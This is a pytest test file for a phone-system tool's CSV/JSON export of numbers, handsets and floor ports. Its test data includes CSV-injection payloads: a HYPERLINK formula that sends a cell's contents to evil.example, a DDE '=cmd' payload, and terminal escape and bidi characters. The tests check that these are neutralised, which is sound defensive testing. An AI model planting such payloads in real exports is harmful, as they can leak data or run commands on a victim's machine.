"""Exports: an occupier's numbers, handsets and floor ports as CSV or JSON; one consistent
read; text from outside stays text in a spreadsheet and cannot steer a terminal; the numbers'
CSV imports again; a refused export leaves no file."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import json
import threading
from pathlib import Path
from typing import Any

import pytest
from helpers import FROZEN_NOW
from sqlalchemy import select, update

from voiceconsole import clock
from voiceconsole.cli.main import main
from voiceconsole.db.database import Database
from voiceconsole.db.models import (
    FloorPort,
    Handset,
    NumberRange,
    Occupier,
    PhoneNumber,
    PortingOrder,
    Site,
)
from voiceconsole.domain.errors import InvalidInput, NotFound
from voiceconsole.domain.porting import PortingState
from voiceconsole.domain.spreadsheet import formula_safe, outside_cell
from voiceconsole.services import exports
from voiceconsole.services.exports import (
    ExportKind,
    Sink,
    default_name,
    export_rows,
    export_to_files,
    export_to_stream,
)
from voiceconsole.services.handsets import login_number
from voiceconsole.services.number_import import ImportRefused, import_numbers, iter_csv
from voiceconsole.services.seed import load_sample_data
from voiceconsole.services.sites import create_site

ACME_DESK_1 = "02:cc:01:01:00:01"  # yealink-t54w, acme-analytics at LON1 (sample data)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)\n\x1b[31mred\x1b[0m'
CARRIER = "=cmd|' /C calc'!A0"


async def _export(db: Database, occupier: str, kind: str, fmt: str = "csv", **kw: Any) -> str:
    out = io.StringIO(newline="")
    await export_to_stream(db, occupier, site=kw.get("site"), kind=kind, fmt=fmt, out=out)
    return out.getvalue()


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def _sample(db: Database) -> None:
    with clock.frozen(FROZEN_NOW):
        await load_sample_data(db, "sample-data")


async def _hostile_data(db: Database) -> None:
    """What clean_text keeps out today could be in the database from before, or from SQL:
    a label with a formula, a newline and escape sequences; a port-in order's carrier."""
    async with db.write() as session:
        await session.execute(
            update(PhoneNumber).where(PhoneNumber.e164 == "+442079460001").values(label=HOSTILE)
        )
        await session.execute(
            update(PhoneNumber).where(PhoneNumber.e164 == "+442079460002").values(label="-2+3")
        )
        await session.execute(
            update(Handset).where(Handset.mac == ACME_DESK_1).values(label="@SUM(1+1)")
        )
        halcyon = await session.scalar(select(Occupier.id).where(Occupier.code == "halcyon-legal"))
        lon1 = await session.scalar(select(Site.id).where(Site.code == "LON1"))
        order = PortingOrder(
            site_id=lon1,
            occupier_id=halcyon,
            losing_carrier=CARRIER,
            account_ref="ACC-991",
            requested_on=dt.date(2026, 11, 1),
            state=PortingState.COMPLETED,
            numbers="+442079460500-+442079460509",
            number_count=10,
            created_by="qa",
        )
        session.add(order)
        await session.flush()
        await session.execute(
            update(NumberRange)
            .where(NumberRange.first_e164 == "+442079460500")
            .values(porting_order_id=order.id)
        )
        await session.commit()


# -- the guard -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946", "'+44 20 7946"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-1", "-1"),  # a basement floor: a number, not a formula
        ("+5.5", "+5.5"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("Front desk", "Front desk"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_formula_triggers_are_quoted(cell: str, safe: str) -> None:
    assert formula_safe(cell) == safe


def test_outside_cells_show_control_characters_and_stay_text() -> None:
    assert outside_cell(HOSTILE) == (
        '\'=HYPERLINK("http://evil.example/?"&A1)\u240a\u241b[31mred\u241b[0m'
    )
    assert outside_cell("\t=1") == "\u2409=1"  # a tab is shown, and no longer a trigger


def test_default_names_say_occupier_site_kind_and_day() -> None:
    day = dt.date(2026, 11, 19)
    assert default_name("acme", "LON1", "numbers", "csv", day) == "acme-LON1-numbers-2026-11-19.csv"
    assert default_name("acme", None, "all", "json", day) == "acme-2026-11-19.json"
    assert default_name("acme", None, "ports", "json", day) == "acme-ports-2026-11-19.json"


# -- the service, on SQLite and PostgreSQL ------------------------------------------------


async def test_numbers_handsets_and_ports_of_an_occupier(db: Database) -> None:
    await _sample(db)
    await login_number(db, "qa", handset=ACME_DESK_1, number="020 7946 0001")
    numbers = _rows(await _export(db, "acme-analytics", "numbers", site="LON1"))
    assert [n["number"] for n in numbers] == [f"+44207946000{i}" for i in range(5)]
    first = numbers[1]
    assert first["national"] == "020 7946 0001"
    assert (first["site"], first["state"], first["origin"], first["main"]) == (
        "LON1",
        "active",
        "pool",
        "no",
    )
    assert (first["handset"], first["line_key"]) == (ACME_DESK_1, "1")
    assert numbers[0]["main"] == "yes" and numbers[0]["label"] == "Reception"

    handsets = _rows(await _export(db, "acme-analytics", "handsets"))
    assert [(h["mac"], h["floor_port"], h["lines"]) for h in handsets] == [
        (ACME_DESK_1, "1F-001", "1: 020 7946 0001"),
        ("02:cc:01:01:00:03", "1F-003", ""),
    ]
    assert handsets[0]["model"] == "yealink-t54w" and handsets[0]["label"] == "Acme desk 1"

    ports = _rows(await _export(db, "acme-analytics", "ports"))
    assert [(p["site"], p["label"]) for p in ports][:2] == [("LON1", "1F-001"), ("LON1", "1F-002")]
    assert {p["site"] for p in ports} == {"LON1", "NYC1"}  # every site where it has anything
    assert ports[0] | {"role": ""} == {
        "site": "LON1",
        "floor": "1F",
        "label": "1F-001",
        "space": "1.01",
        "switch": "lon1-1f-sw1",
        "interface": "GigabitEthernet1/0/1",
        "role": "",
    }

    document = json.loads(await _export(db, "acme-analytics", "all", "json", site="LON1"))
    assert document["occupier"] == "acme-analytics" and document["site"] == "LON1"
    assert len(document["numbers"]) == 5 and len(document["ports"]) == 4
    assert document["handsets"][0]["lines"] == [{"line_key": 1, "number": "+442079460001"}]
    assert document["numbers"][1]["line_key"] == 1 and document["numbers"][0]["main"] is True


async def test_rows_stream_in_pages_and_a_handset_keeps_its_lines_together(
    db: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    await _sample(db)
    for n in (1, 2, 3):
        await login_number(db, "qa", handset=ACME_DESK_1, number=f"020 7946 000{n}")
    monkeypatch.setattr(exports, "_PAGE", 2)  # a handset's lines span pages
    handsets = _rows(await _export(db, "acme-analytics", "handsets"))
    assert [h["lines"] for h in handsets] == [
        "1: 020 7946 0001; 2: 020 7946 0002; 3: 020 7946 0003",
        "",
    ]
    numbers = _rows(await _export(db, "acme-analytics", "numbers"))
    assert len(numbers) == 7 and [n["line_key"] for n in numbers[:5]] == ["", "1", "2", "3", ""]


async def test_port_in_numbers_carry_their_order(db: Database) -> None:
    await _sample(db)
    await _hostile_data(db)
    numbers = _rows(await _export(db, "halcyon-legal", "numbers"))
    assert len(numbers) == 10
    assert {(n["origin"], n["porting_carrier"], n["porting_account_ref"]) for n in numbers} == {
        ("ported", "'" + CARRIER, "ACC-991")
    }
    document = json.loads(await _export(db, "halcyon-legal", "numbers", "json"))
    assert document["numbers"][0]["porting_carrier"] == CARRIER  # JSON: the data as it is


async def test_hostile_text_stays_text_and_cannot_steer_a_terminal(db: Database) -> None:
    await _sample(db)
    await _hostile_data(db)
    text = await _export(db, "acme-analytics", "numbers", site="LON1")
    assert "\x1b" not in text and "\n" not in text.replace("\r\n", "")  # one record a line
    assert text.count("\r\n") == 6
    rows = _rows(text)
    assert rows[1]["label"].startswith("'=HYPERLINK") and "\u241b[31m" in rows[1]["label"]
    assert rows[2]["label"] == "'-2+3"
    assert all(r["number"].startswith("+44") for r in rows)  # ours: E.164 is not mangled
    assert text.startswith('"number","national"')  # every cell quoted (OWASP)
    handsets = _rows(await _export(db, "acme-analytics", "handsets"))
    assert handsets[0]["label"] == "'@SUM(1+1)"

    raw = await _export(db, "acme-analytics", "numbers", "json", site="LON1")
    assert "\x1b" not in raw
    assert json.loads(raw)["numbers"][1]["label"] == HOSTILE  # the data, exactly


async def test_bidi_and_c1_characters_are_escaped_in_json(db: Database) -> None:
    await _sample(db)
    async with db.write() as session:
        await session.execute(
            update(PhoneNumber)
            .where(PhoneNumber.e164 == "+442079460001")
            .values(label="desk\u202e\x9b31m")
        )
        await session.commit()
    raw = await _export(db, "acme-analytics", "numbers", "json", site="LON1")
    assert "\u202e" not in raw and "\x9b" not in raw and "\\u202e" in raw
    assert json.loads(raw)["numbers"][1]["label"] == "desk\u202e\x9b31m"


async def test_unknown_names_are_refused(db: Database) -> None:
    await _sample(db)
    with pytest.raises(NotFound, match="unknown occupier 'nobody'"):
        await _export(db, "nobody", "numbers")
    with pytest.raises(NotFound, match="unknown site 'XXX1'"):
        await _export(db, "acme-analytics", "numbers", site="XXX1")
    with pytest.raises(InvalidInput, match="acme-analytics has nothing at MAN1"):
        await _export(db, "acme-analytics", "numbers", site="MAN1")
    with pytest.raises(InvalidInput, match="unknown export kind 'phones'"):
        await _export(db, "acme-analytics", "phones")
    with pytest.raises(InvalidInput, match="name a directory"):
        await _export(db, "acme-analytics", "all")


class _Interrupted(Sink):
    """Rows as they come; between the numbers and the ports a colleague commits a change."""

    def __init__(self, url: str) -> None:
        self.url = url
        self.rows: dict[ExportKind, list[dict[str, Any]]] = {}

    def start(self, kind: ExportKind) -> None:
        self.rows[kind] = []

    def row(self, kind: ExportKind, values: dict[str, Any]) -> None:
        self.rows[kind].append(values)

    def end(self, kind: ExportKind) -> None:
        if kind is ExportKind.NUMBERS:
            # Another connection (own loop, own thread) takes a floor port from the occupier
            # and a number, and commits, while the export's read is still open.
            thread = threading.Thread(target=asyncio.run, args=(self._colleague(),))
            thread.start()
            thread.join()

    async def _colleague(self) -> None:
        other = Database(self.url)
        try:
            async with other.write() as session:
                await session.execute(
                    update(FloorPort).where(FloorPort.label == "1F-002").values(occupier_id=None)
                )
                await session.commit()
        finally:
            await other.close()


async def test_the_three_kinds_are_read_in_one_snapshot(db: Database) -> None:
    await _sample(db)
    sink = _Interrupted(db.url)
    _, _, counts = await export_rows(
        db,
        "acme-analytics",
        site="LON1",
        kinds=list(ExportKind),
        sink=lambda _holder, _place: sink,
    )
    # The colleague committed before the ports were read: the export still shows the port,
    # as it was when the export began; the next export no longer does.
    assert [p["label"] for p in sink.rows[ExportKind.PORTS]] == [
        "1F-001",
        "1F-002",
        "1F-003",
        "1F-004",
    ]
    assert counts[ExportKind.PORTS] == 4
    later = _rows(await _export(db, "acme-analytics", "ports", site="LON1"))
    assert [p["label"] for p in later] == ["1F-001", "1F-003", "1F-004"]


async def test_exported_numbers_import_again(db: Database, tmp_path: Path) -> None:
    await _sample(db)
    await _hostile_data(db)
    exported = tmp_path / "halcyon.csv"
    result = await export_to_files(
        db, "halcyon-legal", site="LON1", kind="numbers", fmt="csv", out=exported
    )
    assert result.sentence() == f"wrote 10 numbers to {exported}"
    # Into the same installation: every number is refused as already there (and says so).
    with exported.open(newline="") as handle, pytest.raises(ImportRefused, match="10 of 10"):
        await import_numbers(db, "qa", iter_csv(handle), site="LON1", dry_run=True)
    # Into a fresh one, at a site of the same country: all of them, with their note.
    fresh = Database(f"sqlite+aiosqlite:///{tmp_path / 'fresh.db'}")
    try:
        from voiceconsole.db import migrate

        await migrate.upgrade(fresh.engine)
        await create_site(
            fresh, "qa", code="LON9", name="New office", country="GB", timezone="Europe/London"
        )
        with exported.open(newline="") as handle:
            report = await import_numbers(fresh, "qa", iter_csv(handle), site="LON9")
        assert report.total == 10 and report.refused == 0
        async with fresh.read() as session:
            got = (await session.scalars(select(PhoneNumber.e164).order_by(PhoneNumber.e164))).all()
            notes = set((await session.scalars(select(NumberRange.note))).all())
        assert got == [f"+4420794605{i:02d}" for i in range(10)]
        assert notes == {"ported in from the previous office"}
    finally:
        await fresh.close()


async def test_files_appear_whole_or_not_at_all(db: Database, tmp_path: Path) -> None:
    await _sample(db)
    tmp_path = tmp_path / "out"  # the SQLite file is beside: not in the way
    tmp_path.mkdir()
    directory = tmp_path / "handover"
    with clock.frozen(FROZEN_NOW):  # named by the day (this machine's)
        result = await export_to_files(
            db, "acme-analytics", site="LON1", kind="all", fmt="csv", out=directory
        )
    day = "2026-11-19"
    assert sorted(p.name for p in directory.iterdir()) == [
        f"acme-analytics-LON1-handsets-{day}.csv",
        f"acme-analytics-LON1-numbers-{day}.csv",
        f"acme-analytics-LON1-ports-{day}.csv",
    ]
    assert [(w.kind, w.rows) for w in result.written] == [
        ("numbers", 5),
        ("handsets", 2),
        ("ports", 4),
    ]
    for w in result.written:
        assert w.path and len(_rows(Path(w.path).read_text(encoding="utf-8"))) == w.rows

    # Refused after the files were begun (an unknown site is found inside the read): nothing
    # is left, not even the directory it made.
    other = tmp_path / "other"
    with pytest.raises(NotFound):
        await export_to_files(db, "acme-analytics", site="XXX1", kind="all", fmt="csv", out=other)
    assert not other.exists()
    target = tmp_path / "numbers.csv"
    with pytest.raises(NotFound):
        await export_to_files(db, "nobody", site=None, kind="numbers", fmt="csv", out=target)
    assert list(tmp_path.iterdir()) == [directory]
    with pytest.raises(InvalidInput, match="cannot write"):
        await export_to_files(
            db, "acme-analytics", site=None, kind="numbers", fmt="csv", out=tmp_path / "no" / "x"
        )
    with pytest.raises(InvalidInput, match="is a directory"):
        await export_to_files(
            db, "acme-analytics", site=None, kind="numbers", fmt="json", out=directory
        )
    assert list(tmp_path.iterdir()) == [directory]


# -- the command line (SQLite) -------------------------------------------------------------


def _cli(url: str, capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    capsys.readouterr()
    code = main([*args, "--db", url, "--actor", "cli-tester"])
    out, err = capsys.readouterr()
    return code, out, err


def test_cli_exports_to_stdout_a_file_or_a_directory(
    seeded: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    url = seeded.url
    code, out, err = _cli(url, capsys, "occupiers", "export", "acme-analytics", "--site", "LON1")
    assert code == 0, err
    assert out.splitlines()[0].startswith('"number","national","site"')
    assert len(out.splitlines()) == 6 and err == "wrote 5 numbers\n"

    code, out, err = _cli(
        url, capsys, "occupiers", "export", "acme-analytics", "--kind", "all", "--json"
    )
    assert code == 0, err
    document = json.loads(out)
    assert {"numbers", "handsets", "ports"} <= set(document)

    target = tmp_path / "ports.csv"
    code, out, err = _cli(
        url,
        capsys,
        "occupiers",
        "export",
        "acme-analytics",
        "--kind",
        "ports",
        "--out",
        str(target),
    )
    assert code == 0 and out == ""
    assert err == f"wrote 8 floor ports to {target}\n"
    assert len(_rows(target.read_text(encoding="utf-8"))) == 8

    code, out, err = _cli(
        url,
        capsys,
        "occupiers",
        "export",
        "acme-analytics",
        "--kind",
        "all",
        "--out",
        str(tmp_path / "d"),
    )
    assert code == 0, err
    assert len(list((tmp_path / "d").iterdir())) == 3


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["nobody"], "unknown occupier 'nobody'"),
        (["acme-analytics", "--site", "XXX1"], "unknown site 'XXX1'"),
        (["acme-analytics", "--kind", "all"], "name a directory with --out"),
        (["acme-analytics", "--out", "{tmp}/missing/x.csv"], "cannot write"),
        (["acme-analytics", "--out", "{tmp}"], "is a directory"),
    ],
)
def test_cli_refuses_in_one_line_and_leaves_no_file(
    seeded: Database,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    args: list[str],
    message: str,
) -> None:
    work = tmp_path / "work"
    work.mkdir()
    args = [a.replace("{tmp}", str(work)) for a in args]
    code, out, err = _cli(seeded.url, capsys, "occupiers", "export", *args)
    assert code == 1 and out == ""
    assert len(err.strip().splitlines()) == 1 and message in err
    assert list(work.iterdir()) == []


async def test_a_disk_that_fills_midway_leaves_no_file(
    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    await _sample(db)
    tmp_path = tmp_path / "out"
    tmp_path.mkdir()
    written = exports._CsvSink.row

    def full_after_two(self: Any, kind: ExportKind, values: dict[str, Any]) -> None:
        if values["number"] == "+442079460002":
            raise OSError(28, "No space left on device")
        written(self, kind, values)

    monkeypatch.setattr(exports._CsvSink, "row", full_after_two)
    target = tmp_path / "numbers.csv"
    with pytest.raises(InvalidInput, match=r"cannot write .*No space left on device"):
        await export_to_files(
            db, "acme-analytics", site="LON1", kind="numbers", fmt="csv", out=target
        )
    assert list(tmp_path.iterdir()) == []
